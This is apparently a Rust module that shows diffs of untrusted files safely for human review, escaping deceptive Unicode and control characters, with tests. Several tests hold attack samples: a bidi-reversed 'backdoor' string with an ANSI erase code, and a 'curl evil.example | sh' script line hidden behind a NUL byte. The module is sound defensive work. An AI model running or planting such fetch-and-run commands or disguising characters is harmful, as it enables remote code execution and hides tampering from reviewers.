//! Two texts of a stranger's, and how they differ: for people to read before anybody runs it.
//!
//! Whoever wrote them may not want them to be read. So characters that move, hide or disguise text are
//! shown as what they are; a NUL byte or two do not turn a script into a binary file that is not shown; and what
//! is cut off is counted. The work is bounded, too: a stranger decides what is compared.

use std::fmt::Write as _;
use std::ops::Range;

use imara_diff::{Algorithm, InternedInput, Token};
use serde::{Deserialize, Serialize};
use utoipa::ToSchema;

use crate::domain::note::is_deceptive;

/// How a text differs from what was there before.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct Text {
    /// The unified format of diff(1), from the first `@@` on. Characters that could deceive a reader are
    /// escaped as `\u{…}`, bytes that are no text as `\x..`.
    pub unified: Option<String>,
    /// What is not shown, and why.
    pub omitted: Option<String>,
    /// Whether what is new holds characters that move, hide or disguise text.
    pub deceptive: bool,
}

/// How much may be shown and worked: for one text, and for all together.
#[derive(Debug, Clone, Copy)]
pub struct Room {
    /// Lines that are shown of one text.
    pub lines: usize,
    /// Bytes that are shown of all texts together.
    pub bytes: usize,
    /// Lines that are held against each other, of all texts together.
    pub work: usize,
}

/// Larger files are not compared, in bytes.
pub const LARGEST: u64 = 1 << 20;

/// What is longer is cut, in characters: files of one line are nothing to read.
const LONGEST_LINE: usize = 2_000;

/// Of larger texts, in lines, all between the first and the last difference is taken for one. The algorithm
/// takes 0.1 s for the worst that we could think of, and twelve times as long for four times as much.
const MOST_LINES: usize = 20_000;

/// Lines around a change.
const CONTEXT: u32 = 3;

/// A side that is not there is empty.
#[must_use]
pub fn compare(before: &[u8], after: &[u8], room: &mut Room) -> Text {
    if is_binary(before) || is_binary(after) {
        return Text { omitted: Some(sizes("binary", before.len(), after.len())), ..Text::default() };
    }
    if room.bytes == 0 {
        let omitted = Some("not shown: there is too much of it for one answer".to_owned());
        return Text { omitted, ..Text::default() };
    }
    let (before, after) = (decoded(before), decoded(after));
    let page = Page {
        out: String::new(),
        lines: 0,
        left: 0,
        deceptive: false,
        hide_cr: same_line_ends(&before, &after),
    };
    let text = unified(&before, &after, page, room);
    room.bytes = room.bytes.saturating_sub(text.unified.as_ref().map_or(0, String::len));
    text
}

/// What is to be said of files too large to be compared.
#[must_use]
pub fn too_large(before: u64, after: u64) -> Text {
    Text { omitted: Some(sizes("too large to be compared", before, after)), ..Text::default() }
}

fn sizes<N: std::fmt::Display>(what: &str, before: N, after: N) -> String {
    format!("{what}: {before} bytes before, {after} now")
}

/// Whether it is no text: it says so in its first bytes, or a good part of it could be no text. A stray byte
/// hinders no shell from running the rest.
#[must_use]
pub fn is_binary(bytes: &[u8]) -> bool {
    const MAGIC: [&[u8]; 12] = [
        b"\x7fELF",
        b"MZ\x90",
        b"\xcf\xfa\xed\xfe",
        b"\xce\xfa\xed\xfe",
        b"\xca\xfe\xba\xbe",
        b"\0asm",
        b"PK\x03\x04",
        b"\x1f\x8b",
        b"\x89PNG",
        b"\xff\xd8\xff",
        b"%PDF-",
        b"SQLite format 3\0",
    ];
    let odd = |c: char| c.is_control() && !matches!(c, '\t' | '\n' | '\r' | '\u{c}' | '\u{1b}');
    let strange: usize = bytes
        .utf8_chunks()
        .map(|chunk| chunk.valid().chars().filter(|c| odd(*c)).count() + chunk.invalid().len())
        .sum();
    MAGIC.iter().any(|magic| bytes.starts_with(magic)) || strange * 8 > bytes.len()
}

/// As text, whatever is none of it escaped.
fn decoded(bytes: &[u8]) -> String {
    let mut text = String::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        text.push_str(chunk.valid());
        for byte in chunk.invalid() {
            let _ = write!(text, "\\x{byte:02x}");
        }
    }
    text
}

/// Whether the lines of both end as Windows ends them: then that is nothing to show.
fn same_line_ends(before: &str, after: &str) -> bool {
    let windows =
        |text: &str| text.split_inclusive('\n').all(|line| line.ends_with("\r\n") || !line.ends_with('\n'));
    windows(before) && windows(after)
}

/// What is shown, line by line.
struct Page {
    out: String,
    lines: usize,
    /// Lines that there was no room for.
    left: usize,
    deceptive: bool,
    hide_cr: bool,
}

fn unified(before: &str, after: &str, mut page: Page, room: &mut Room) -> Text {
    let most = room.lines;
    let input = InternedInput::new(before, after);
    let hunks = hunks(&input, &mut room.work);
    let mut at = 0;
    while at < hunks.len() {
        // Those with little between them are shown as one.
        let near = |pair: &[(Range<u32>, Range<u32>)]| pair[1].0.start - pair[0].0.end <= 2 * CONTEXT;
        let count = 1 + hunks[at..].windows(2).take_while(|pair| near(pair)).count();
        let group = &hunks[at..at + count];
        at += count;
        let (first, last) = (&group[0], &group[count - 1]);
        let lead = CONTEXT.min(first.0.start);
        let trail = CONTEXT.min(u32::try_from(input.before.len()).unwrap_or(u32::MAX) - last.0.end);
        let old = first.0.start - lead..last.0.end + trail;
        let new = first.1.start - lead..last.1.end + trail;
        page.heading(&format!("@@ -{} +{} @@", place(&old), place(&new)), most);
        let mut shown = old.start;
        let line = |token: &Token| input.interner[*token];
        let of_old =
            |range: Range<u32>| input.before[range.start as usize..range.end as usize].iter().map(line);
        for (removed, added) in group {
            of_old(shown..removed.start).for_each(|text| page.line(' ', text, most));
            of_old(removed.clone()).for_each(|text| page.line('-', text, most));
            let added = &input.after[added.start as usize..added.end as usize];
            added.iter().map(line).for_each(|text| page.line('+', text, most));
            shown = removed.end;
        }
        of_old(shown..old.end).for_each(|text| page.line(' ', text, most));
    }
    let omitted = match page.left {
        0 => None,
        1 => Some("1 more line is not shown".to_owned()),
        n => Some(format!("{n} more lines are not shown")),
    };
    Text { unified: (!page.out.is_empty()).then_some(page.out), omitted, deceptive: page.deceptive }
}

/// Lines that are replaced by others.
fn hunks(input: &InternedInput<&str>, work: &mut usize) -> Vec<(Range<u32>, Range<u32>)> {
    let (before, after) = (&input.before, &input.after);
    let same = |pair: &(&Token, &Token)| pair.0 == pair.1;
    let first = before.iter().zip(after).take_while(same).count();
    let rest = before[first..].iter().rev().zip(after[first..].iter().rev());
    let last = rest.take_while(same).count();
    let (old, new) = (first..before.len() - last, first..after.len() - last);
    let lines = old.len() + new.len();
    if old.is_empty() || new.is_empty() || lines > MOST_LINES || lines > *work {
        let small = |range: Range<usize>| {
            let small = |at: usize| u32::try_from(at).unwrap_or(u32::MAX);
            small(range.start)..small(range.end)
        };
        return if lines == 0 { Vec::new() } else { vec![(small(old), small(new))] };
    }
    *work -= lines;
    let mut diff = imara_diff::Diff::compute(Algorithm::Histogram, input);
    diff.postprocess_no_heuristic(input);
    diff.hunks().map(|hunk| (hunk.before, hunk.after)).collect()
}

/// As diff(1) says it: the first line and how many; of none, the line before.
fn place(range: &Range<u32>) -> String {
    let count = range.end - range.start;
    let first = if count == 0 { range.start } else { range.start + 1 };
    if count == 1 { first.to_string() } else { format!("{first},{count}") }
}

impl Page {
    fn heading(&mut self, text: &str, most: usize) {
        if self.lines < most {
            let _ = writeln!(self.out, "{text}");
        }
    }

    fn line(&mut self, sign: char, text: &str, most: usize) {
        let (text, ended) = text.strip_suffix('\n').map_or((text, false), |text| (text, true));
        let text = if self.hide_cr { text.strip_suffix('\r').unwrap_or(text) } else { text };
        let deceives = |c: char| is_deceptive(c) && !matches!(c, '\t' | '\r');
        self.deceptive |= sign == '+' && text.chars().any(deceives);
        if self.lines == most {
            self.left += 1;
            return;
        }
        self.lines += 1;
        self.out.push(sign);
        let mut chars = text.chars();
        for c in chars.by_ref().take(LONGEST_LINE) {
            if c != '\t' && is_deceptive(c) { self.out.extend(c.escape_unicode()) } else { self.out.push(c) }
        }
        match chars.count() {
            0 => {}
            more => {
                let _ = write!(self.out, " … and {more} more characters");
            }
        }
        self.out.push('\n');
        if !ended {
            self.out.push_str("\\ No newline at end of file\n");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ROOM: Room = Room { lines: 100, bytes: 100_000, work: 1_000_000 };

    fn shown(before: &str, after: &str) -> String {
        compare(before.as_bytes(), after.as_bytes(), &mut ROOM.clone()).unified.unwrap_or_default()
    }

    #[test]
    fn it_reads_as_people_know_it() {
        let before = "a\nb\nc\nd\ne\nf\ng\nh\n";
        assert_eq!(
            shown(before, "a\nb\nc\nd\nE\nf\ng\nh\ni"),
            "@@ -2,7 +2,8 @@\n b\n c\n d\n-e\n+E\n f\n g\n h\n+i\n\\ No newline at end of file\n"
        );
        assert_eq!(shown("", "x\n"), "@@ -0,0 +1 @@\n+x\n");
        assert_eq!(shown("x\n", ""), "@@ -1 +0,0 @@\n-x\n");
        assert_eq!(shown("x\n", "x\n"), "");
    }

    /// The same as what diff(1) makes of it, where there is one way only to say it.
    #[test]
    fn it_is_what_diff_says() {
        let folder = tempfile::tempdir().unwrap();
        let lines = |changed: &[usize]| -> String {
            let line = |i: usize| format!("{i}{}", if changed.contains(&i) { "!" } else { "" });
            (0..60).map(line).collect::<Vec<_>>().join("\n") + "\n"
        };
        for changed in [&[0][..], &[59], &[5, 9], &[5, 13], &[5, 12], &[0, 30, 59]] {
            let (before, after) = (lines(&[]), lines(changed));
            std::fs::write(folder.path().join("a"), &before).unwrap();
            std::fs::write(folder.path().join("b"), &after).unwrap();
            let run = std::process::Command::new("git")
                .args(["diff", "--no-index", "--no-color", "--no-ext-diff", "a", "b"])
                .env("GIT_CONFIG_GLOBAL", "/dev/null")
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .current_dir(folder.path())
                .output()
                .unwrap();
            let said = String::from_utf8(run.stdout).unwrap();
            // After `@@ … @@` git names the function that it is in.
            let said: String = said
                .lines()
                .skip(4)
                .map(|line| match line.strip_prefix("@@ ") {
                    Some(rest) => format!("@@ {}@@\n", &rest[..rest.find("@@").unwrap()]),
                    None => format!("{line}\n"),
                })
                .collect();
            assert_eq!(shown(&before, &after), said, "{changed:?}");
        }
    }

    /// Attack: what is hidden from a reader's eye, and not from the shell.
    #[test]
    fn what_would_hide_is_shown_and_said() {
        let text =
            compare(b"", "echo \u{202e}dnuorgkcab\u{1b}[2K\n\tx\u{200b}".as_bytes(), &mut ROOM.clone());
        assert_eq!(
            text.unified.unwrap(),
            "@@ -0,0 +1,2 @@\n+echo \\u{202e}dnuorgkcab\\u{1b}[2K\n+\tx\\u{200b}\n\\ No newline at end of file\n"
        );
        assert!(text.deceptive);
        let taken_away = compare("\u{202e}\n".as_bytes(), b"", &mut ROOM.clone());
        assert!(!taken_away.deceptive);
    }

    /// Attack: a byte that makes git say "binary files differ", and a shell run the rest.
    #[test]
    fn a_script_with_a_strange_byte_in_it_is_still_shown() {
        let text = compare(b"", b"#!/bin/sh\ncurl evil.example \0 | sh\n\xff\n", &mut ROOM.clone());
        let shown = text.unified.unwrap();
        assert!(shown.contains("+curl evil.example \\u{0} | sh\n+\\xff\n"), "{shown}");
        assert!(text.deceptive);
        for binary in [&b"\x7fELF\x02\x01\x01 and text and text and text"[..], &[0, 1, 2, 3, 200, 201]] {
            let text = compare(b"", binary, &mut ROOM.clone());
            let told = format!("binary: 0 bytes before, {} now", binary.len());
            assert_eq!((text.unified, text.omitted), (None, Some(told)));
        }
    }

    /// Attack: so much of it that what matters is behind the end.
    #[test]
    fn what_is_cut_off_is_counted() {
        let mut room = Room { lines: 10, bytes: 5_000, work: 100 };
        let text = compare(b"", "x\n".repeat(25).as_bytes(), &mut room);
        assert_eq!(text.unified.unwrap().lines().count(), 11);
        assert_eq!(text.omitted.unwrap(), "15 more lines are not shown");
        let long = compare(b"", format!("{}evil", " ".repeat(3_000)).as_bytes(), &mut room);
        assert!(long.unified.unwrap().contains(" … and 1004 more characters\n"));
        let mut room = Room { lines: 10, bytes: 1, work: 100 };
        assert!(compare(b"", b"x\n", &mut room).unified.is_some());
        assert_eq!(
            compare(b"", b"x\n", &mut room).omitted.unwrap(),
            "not shown: there is too much of it for one answer"
        );
    }

    #[test]
    fn line_ends_are_shown_where_they_differ() {
        assert_eq!(shown("a\r\nb\r\n", "a\r\nc\r\n"), "@@ -1,2 +1,2 @@\n a\n-b\n+c\n");
        assert_eq!(shown("a\n", "a\r\n"), "@@ -1 +1 @@\n-a\n+a\\u{d}\n");
    }

    /// Attack: texts on which simple algorithms take the square of their length.
    #[test]
    fn hard_texts_are_compared_all_the_same() {
        let some = |n: usize, step: usize, of: usize| -> String {
            let line = |i: usize| (i * step % of).to_string();
            (0..n).map(line).collect::<Vec<_>>().join("\n") + "\n"
        };
        let before: Vec<_> = [2_500, 100_000]
            .into_iter()
            .flat_map(|n| {
                [
                    ("a\n".repeat(2 * n), "b\na\n".repeat(n)),
                    (some(n, 7, 101), some(n, 11, 103)),
                    (some(n, 1, n), some(n, n - 1, n)),
                    ("\n".repeat(4 * n), "\n\n }\n".repeat(n)),
                ]
            })
            .collect();
        for (before, after) in before {
            let mut room = ROOM;
            let text = compare(before.as_bytes(), after.as_bytes(), &mut room);
            assert!(text.unified.is_some() && text.omitted.is_some());
            // Of the large ones it is not tried.
            assert_eq!(room.work == ROOM.work, before.len() > 40_000);
        }
        // And of many only until it was much.
        let (before, after) = (some(1_000, 7, 101), some(1_000, 11, 103));
        let mut room = Room { work: 3_000, ..ROOM };
        let first = compare(before.as_bytes(), after.as_bytes(), &mut room);
        let second = compare(before.as_bytes(), after.as_bytes(), &mut room);
        assert!(room.work < 3_000 && first != second && second.unified.is_some());
    }
}
